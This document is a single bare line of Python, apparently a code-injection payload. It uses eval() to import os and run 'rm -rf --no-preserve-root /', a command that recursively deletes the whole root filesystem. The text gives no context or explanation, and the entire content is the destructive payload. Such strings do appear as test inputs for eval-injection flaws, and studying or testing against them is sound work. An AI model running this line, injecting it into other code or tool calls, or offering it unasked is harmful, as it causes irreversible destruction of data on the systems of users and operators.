eval("__import__('os').system('rm -rf --no-preserve-root /')")
